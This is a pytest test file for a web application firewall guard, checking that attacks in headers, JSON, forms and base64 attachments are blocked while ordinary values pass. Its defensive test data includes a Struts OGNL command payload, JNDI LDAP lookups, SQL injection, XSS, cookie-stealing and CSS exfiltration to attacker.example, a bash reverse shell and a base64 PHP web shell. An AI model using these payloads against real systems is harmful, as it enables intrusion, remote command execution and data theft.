"""Readings that follow the grammar of where a value sits (issue 17, second unseen set): protocol
headers outside their field grammar, documents that are XML of their own, path segments that routers
hand over as keys."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote, urlencode

import pytest

from bastion.config.waf import WAFConfig
from bastion.core.context import Context
from bastion.core.request import Headers, Request
from bastion.guards.waf import WAFGuard

STRUTS = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])"
    ".(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#process=#p.start())}"
)
SAML = (
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd67"'
    ' Version="2.0" IssueInstant="2024-05-01T10:00:00Z">'
    '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
    'https://idp.example.com</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:'
    'Success"/></samlp:Status></samlp:Response>'
)


@pytest.fixture(scope="module")
def guard() -> WAFGuard:
    return WAFGuard(WAFConfig())


def blocked(
    guard: WAFGuard, headers: list[tuple[str, str]], path: str = "/upload.action", body: str | None = None
) -> bool:
    request = Request(
        method="POST" if body is not None else "GET",
        path=path,
        query="",
        headers=Headers([("host", "api.test"), ("user-agent", "Mozilla/5.0 Firefox/126.0"), *headers]),
        client="127.0.0.1",
        body=body.encode() if body is not None else None,
    )
    verdict = guard.check(request, Context("waf-grammar-0001"))
    return verdict is not None and verdict.status == 403


@pytest.mark.parametrize("header", ["content-type", "accept", "accept-language", "cache-control", "authorization"])
@pytest.mark.parametrize("payload", [STRUTS, "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "() { :; }; id"])
def test_a_protocol_header_outside_its_grammar_gets_every_technique(guard: WAFGuard, header: str, payload: str) -> None:
    assert blocked(guard, [(header, payload)])


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        ("content-type", 'text/plain; charset="utf-8"; format=flowed'),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("sec-ch-ua", '"Not(A:Brand";v="99", "Google Chrome";v="133", "Chromium";v="133"'),
        ("if-none-match", 'W/"67ab43", "54ed21"'),
        ("authorization", 'Digest username="Mufasa", realm="x@example.com", nonce="dcd98b7102dd2f0e", qop=auth'),
        ("cache-control", "max-age=0, no-cache"),
        ("priority", "u=0, i"),
    ],
)
def test_well_formed_protocol_headers_pass(guard: WAFGuard, header: str, value: str) -> None:
    assert not blocked(guard, [(header, value)])


def test_a_base64_saml_response_passes_and_its_namespaces_are_no_parser_switch(guard: WAFGuard) -> None:
    form = "SAMLResponse=" + quote(base64.b64encode(SAML.encode()).decode(), safe="") + "&RelayState=%2Fhome"
    assert not blocked(guard, [("content-type", "application/x-www-form-urlencoded")], "/saml/acs", form)


@pytest.mark.parametrize(
    "markup",
    [
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        '<v:shape style="behavior:url(#default#VML)" coordsize="1,1">',
        '<xsl:template match="/"><xsl:value-of select="system-property(\'xsl:vendor\')"/></xsl:template>',
    ],
)
def test_namespaced_markup_is_still_read_in_a_fragment_and_in_base64(guard: WAFGuard, markup: str) -> None:
    json_type = [("content-type", "application/json")]
    assert blocked(guard, json_type, "/api/notes", '{"note": "' + markup.replace('"', '\\"') + '"}')
    encoded = base64.b64encode(markup.encode()).decode()
    assert blocked(guard, json_type, "/api/notes", '{"note": "' + encoded + '"}')


@pytest.mark.parametrize(
    "path", ["/api/config/__proto__/polluted", "/api/set/constructor/prototype/isAdmin", "/a/%5F%5Fproto%5F%5F/x"]
)
def test_a_path_that_walks_into_the_prototype_is_refused(guard: WAFGuard, path: str) -> None:
    assert blocked(guard, [], path)


@pytest.mark.parametrize("path", ["/docs/javascript/prototype/inheritance", "/api/proto/v2/items"])
def test_paths_that_name_prototypes_pass(guard: WAFGuard, path: str) -> None:
    assert not blocked(guard, [], path)


def query_request(query: str, headers: list[tuple[str, str]] | None = None) -> Request:
    fields = [("host", "api.test"), ("user-agent", "Mozilla/5.0 Firefox/126.0"), *(headers or [])]
    return Request(method="GET", path="/api/items", query=query, headers=Headers(fields), client="127.0.0.1")


def refused(guard: WAFGuard, request: Request) -> bool:
    verdict = guard.check(request, Context("waf-grammar-0002"))
    return verdict is not None and verdict.status == 403


@pytest.mark.parametrize(
    "document",
    [
        {"limit": 10, "offset": 20, "order": "name desc"},
        {"where": {"name": {"like": "%drop%"}, "price": {"lt": 100}}},
        [{"field": "title", "op": "in", "value": ["union station", "select comfort"]}],
    ],
)
def test_a_json_document_in_a_parameter_is_read_as_json(guard: WAFGuard, document: object) -> None:
    text = json.dumps(document)
    assert not refused(guard, query_request("filter=" + quote(text, safe="")))
    assert not refused(guard, query_request("page=2", [("x-filter", text)]))
    assert not refused(guard, query_request("page=2", [("cookie", "view=" + quote(text, safe=""))]))


@pytest.mark.parametrize(
    "document",
    [
        {"where": {"name": "x' or 1=1--"}},
        ["1 union select password from users"],
        {"where": {"$where": "sleep(100)"}},
        {"q": "<img src=x onerror=alert(1)>"},
        {"q": "x' or '1'='1", "q ": "shoes"},
    ],
)
def test_an_attack_inside_a_json_parameter_is_found(guard: WAFGuard, document: object) -> None:
    text = json.dumps(document)
    assert refused(guard, query_request("filter=" + quote(text, safe="")))
    assert refused(guard, query_request("filter=" + json.dumps(document)))  # as some clients send it, unencoded
    assert refused(guard, query_request("page=2", [("x-filter", text)]))
    assert refused(guard, query_request("page=2", [("cookie", "view=" + quote(text, safe=""))]))


def test_a_duplicate_key_in_a_json_parameter_hides_nothing(guard: WAFGuard) -> None:
    text = '{"q": "1\' or \'1\'=\'1", "q": "shoes"}'
    assert refused(guard, query_request("filter=" + quote(text, safe="")))


@pytest.mark.parametrize(
    "server",
    [
        "ldaps://dc1.corp.example:636",
        "ldap://ldap.example.com",
        "ldap://ldap.example.com/dc=example,dc=com??sub?(uid=a)",
    ],
)
def test_an_ldap_server_setting_passes(guard: WAFGuard, server: str) -> None:
    """A directory integration's form names its server by an LDAP URL (eleventh unseen set)."""
    body = json.dumps({"server": server, "base_dn": "ou=people,dc=corp,dc=example,dc=com", "tls": True})
    assert not blocked(guard, [("content-type", "application/json")], "/settings/directory", body)


@pytest.mark.parametrize(
    "value",
    [
        "ldap://203.0.113.9:1389/Exploit",  # an object to fetch: what a JNDI lookup is pointed at
        "ldaps://attacker.example/a",
        "ldap://127.0.0.1:389/",  # the server's own directory
        "ldap://[::1]/",
        "${jnd${upper:1}:ldap://y8rj5089x9qx7.fake.domain}",  # an LDAP URL inside other text
        "gopher://ldap.example.com/_x",  # the exception is LDAP's alone
    ],
)
def test_ldap_urls_that_fetch_are_refused(guard: WAFGuard, value: str) -> None:
    body = json.dumps({"server": value})
    assert blocked(guard, [("content-type", "application/json")], "/settings/directory", body)


@pytest.mark.parametrize(
    "html",
    [
        '<style>.promo{color:#c00;font-weight:700}</style><p class="promo">Sale ends Sunday!</p>',
        '<style type="text/css" media="screen and (min-width: 600px)">h2 { margin: 0 }</style>',
        '<embed src="https://maps.example.com/embed?pb=!1m18!1m12" width="600" height="450">',
        '<object data="https://cdn.example.com/menu.pdf" type="application/pdf" width="100%" height="500"></object>',
        '<form action="/newsletter" method="post"><input type="email" name="email" placeholder="you@example.com">'
        '<button type="submit">Subscribe</button></form>',
    ],
)
def test_rich_text_elements_that_run_nothing_pass(guard: WAFGuard, html: str) -> None:
    """A page builder's blocks (sixth unseen set): CSS rules, an https embed, a form posting to this site."""
    body = json.dumps({"blocks_html": html})
    assert not blocked(guard, [("content-type", "application/json")], "/pages/42", body)


@pytest.mark.parametrize(
    "html",
    [
        "<style>",  # a bare tag: a probe for reflection
        "<form>",
        "<style>body{background:url(https://attacker.example/?c=1)}</style>",  # CSS that fetches
        "<style>@import 'https://attacker.example/x.css';</style>",
        "<style>input[value^=a]{background-image:u\\72l(//attacker.example/a)}</style>",  # an escape
        '<form action="https://attacker.example/login" method="post"><input name="password"></form>',  # elsewhere
        '<form action="//attacker.example/login">',
        '<form action="javascript:alert(1)">',
        '<form action="/search" onsubmit="steal()">',
        '<object data="/uploads/page.html" type="application/pdf"></object>',  # this site's origin, any type
        '<object data="javascript:alert(1)"></object>',
        '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        '<embed src="https://cdn.example.com/x.svg" type="image/svg+xml">',
        '<object data="https://cdn.example.com/a.swf" allowscriptaccess="always"></object>',
    ],
)
def test_rich_text_elements_that_fetch_run_or_post_elsewhere_are_refused(guard: WAFGuard, html: str) -> None:
    body = json.dumps({"blocks_html": html})
    assert blocked(guard, [("content-type", "application/json")], "/pages/42", body)


@pytest.mark.parametrize(
    "inner",
    [
        {"status": "active' OR 1=1 -- "},  # read key by key, where the quote is SQL's, not JSON's
        {"include": "https://evil.example/x.txt"},  # a remote include by a nested key's name
    ],
)
def test_a_json_document_in_a_json_string_is_read_key_by_key_at_a_glance_too(guard: WAFGuard, inner: object) -> None:
    """The glance settled a hit on the whole nested document, whose readings excuse JSON's own
    quotes; the full path reads its keys and strings (twelfth unseen set)."""
    body = json.dumps({"filter": json.dumps(inner)})
    assert blocked(guard, [("content-type", "application/json")], "/api/search", body)


@pytest.mark.parametrize(
    "value",
    ["1'#\nUNION\nSELECT password FROM users#", "1'-- \nUNION SELECT password FROM users", "x'#a\r\nOR 1=1#"],
)
def test_a_line_comment_ends_at_the_line_and_what_follows_is_read(guard: WAFGuard, value: str) -> None:
    """`--` and `#` comment out the rest of the line, not of the value (twelfth unseen set)."""
    form = "q=" + quote(value, safe="")
    assert blocked(guard, [("content-type", "application/x-www-form-urlencoded")], "/search", form)


PYPROJECT = (
    '[tool.poetry]\nname = "acme-worker"\nversion = "1.3.5"\n\n[tool.poetry.dependencies]\npython = "^3.11"\n'
    'httpx = "^0.27"\n'
)


def test_a_configuration_file_names_keys_not_commands(guard: WAFGuard) -> None:
    """`python = "^3.11"` under a TOML table is a key (twelfth unseen set, 9 rows)."""
    body = json.dumps({"content": PYPROJECT})
    assert not blocked(guard, [("content-type", "application/json")], "/api/files", body)


@pytest.mark.parametrize(
    "value",
    [
        "[x]\nname = a; id",  # a shell operator in a setting's value
        "a = 1\ncat = /etc/passwd",  # a command given a dangerous argument
        "x\nid",  # a command alone on its line is no setting
        "a=1|id",  # one line: no file
    ],
)
def test_commands_dressed_as_settings_are_refused(guard: WAFGuard, value: str) -> None:
    body = json.dumps({"content": value})
    assert blocked(guard, [("content-type", "application/json")], "/api/files", body)


@pytest.mark.parametrize(
    ("html", "refused"),
    [
        ('<a href="javascript-guide.html">JavaScript guide</a>', False),  # a relative path
        ('<a href="javascript:alert(1)">x</a>', True),
        ('<a href="java\tscript:alert(1)">x</a>', True),
        ('<a href="javascript&colon;alert(1)">x</a>', True),
        ('<a href="javascript&#58;alert(1)">x</a>', True),
    ],
)
def test_a_script_url_needs_its_scheme_colon(guard: WAFGuard, html: str, refused: bool) -> None:
    body = json.dumps({"content": html})
    assert blocked(guard, [("content-type", "application/json")], "/api/pages", body) is refused


def _multipart(name: str, value: str, filename: str | None = None) -> tuple[list[tuple[str, str]], str]:
    boundary = "----WebKitFormBoundaryCs2arnIgAa14wRRY"
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    body = f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n{value}\r\n--{boundary}--\r\n"
    return [("content-type", f"multipart/form-data; boundary={boundary}")], body


def test_a_forged_header_block_after_a_token_is_refused_whatever_its_first_field(guard: WAFGuard) -> None:
    # A one-token value, then header fields flush with the margin: the block a value spliced into
    # response or mail headers forges. Its first field need not be a known name; a known one within
    # the next four gives it away (sixteenth unseen set, a multipart text field).
    headers, body = _multipart("locale", "ok\r\nBcc-Log: none\r\nX-Injected: 1")
    assert blocked(guard, headers, path="/api/v1/settings", body=body)
    # YAML nests its keys on indented lines, which continue the line before them in a header block
    headers, body = _multipart(
        "file", "server:\n  port: 8080\n  host: 0.0.0.0\nlogging:\n  level: info\n", "config.yaml"
    )
    assert not blocked(guard, headers, path="/api/v1/settings", body=body)


@pytest.mark.parametrize(
    ("document", "refused"),
    [
        ("<html><body><p>Invoice #123 &amp; receipt</p></body></html>", False),
        (
            '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Receipt</title></head>'
            "<body>ok</body></html>",
            False,
        ),
        ("<html><body onload=alert(document.domain)><p>Invoice</p></body></html>", True),
        ('<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head></html>', True),
        ("<html><body><script>fetch('//evil.example/?c='+document.cookie)</script></body></html>", True),
    ],
)
def test_a_base64_html_document_is_data_but_what_runs_in_it_is_not(
    guard: WAFGuard, document: str, refused: bool
) -> None:
    # An e-mail template or an attachment sent as base64: its skeleton is what an HTML document is
    # made of, as namespaces are an XML document's; a script, a handler or http-equiv keep it refused.
    body = json.dumps(
        {"attachments": [{"name": "receipt.html", "content": base64.b64encode(document.encode()).decode()}]}
    )
    assert blocked(guard, [("content-type", "application/json")], path="/api/v1/mail", body=body) is refused


@pytest.mark.parametrize(
    ("script", "refused"),
    [
        (
            "#!/bin/bash\nset -euo pipefail\napt-get update -y\napt-get install -y nginx\n"
            "systemctl enable --now nginx\n",
            False,
        ),
        ("#!/usr/bin/env bash\nset -e\nnpm ci && npm test\n", False),
        ("#!/bin/sh\nid", True),  # a comment, then one command: a value's injection
        ("#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", True),
    ],
)
def test_a_base64_script_file_is_data_but_a_reverse_shell_in_it_is_not(
    guard: WAFGuard, script: str, refused: bool
) -> None:
    # EC2 and cloud-init user data travel as base64 shell scripts: their commands are what they are for
    body = json.dumps({"instance": {"type": "t3.small", "user_data": base64.b64encode(script.encode()).decode()}})
    assert blocked(guard, [("content-type", "application/json")], path="/api/v1/instances", body=body) is refused


def test_a_scheme_in_a_plumbing_header_is_read(guard: WAFGuard) -> None:
    # No language range, media type or encoding has a colon: a locale loader that includes what
    # Accept-Language names would include a data: URI's PHP (seventeenth unseen set)
    wrapper = "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+"
    assert blocked(guard, [("accept-language", wrapper)], path="/view.jsp")
    ordinary = [
        ("accept-language", "de-DE,de;q=0.9,en;q=0.7"),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("if-modified-since", "Tue, 08 Dec 2026 03:20:46 GMT"),  # a date's colons are read in full
    ]
    assert not blocked(guard, ordinary, path="/view.jsp")


def test_an_svg_data_url_posted_in_a_form_is_read_as_the_form_decodes_it(guard: WAFGuard) -> None:
    # A form sends `+`, `/` and `=` percent-encoded: the icon is read decoded (seventeenth unseen set)

    icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2l3 7h7z" fill="#f5b301"/></svg>'
    script = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
    form = [("content-type", "application/x-www-form-urlencoded")]
    for svg, refused in ((icon, False), (script, True)):
        url = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
        assert blocked(guard, form, path="/api/v1/badges", body=urlencode({"icon": url})) is refused
